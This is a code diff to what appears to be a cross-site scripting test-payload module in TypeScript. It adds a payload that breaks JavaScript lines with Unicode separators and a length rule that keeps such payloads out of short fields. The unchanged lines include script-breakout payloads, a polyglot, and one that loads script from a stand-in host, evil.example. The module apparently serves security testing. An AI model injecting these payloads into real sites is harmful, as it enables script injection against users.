@@ -24,11 +24,15 @@ export const payloads = [
   '"-alert(1)-"\';alert(1);//`',
   ']]></title><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
   '<svg><script href=//evil.example/x.js /><animate onbegin=alert(1)>',
+  // Ends a line in JavaScript. Only long fields have several lines.
+  "alert(1)//\u2028alert(1)//\u2029';alert(1)",
 ] as const;
 
 /** Breaks out of most places at once, in a hundred characters. */
 export const polyglot =
   '</title></style></textarea></script>--><svg onload=alert(1)>"\'><img src=x onerror=alert(1)>';
+
+const LONG_FIELD = 1000;
 
 /** As many of them as fit into so many characters, beginning with the one at an index. */
 export function packed(most: number, first: number): string {
@@ -36,7 +40,8 @@ export function packed(most: number, first: number): string {
   for (let index = 0; index < payloads.length; index += 1) {
     const next = payloads[(first + index) % payloads.length] ?? '';
     const longer = text ? `${text} ${next}` : next;
-    if (longer.length <= most) text = longer;
+    const fits = longer.length <= most && (most >= LONG_FIELD || !/[\u2028\u2029]/.test(next));
+    if (fits) text = longer;
   }
   return text;
 }
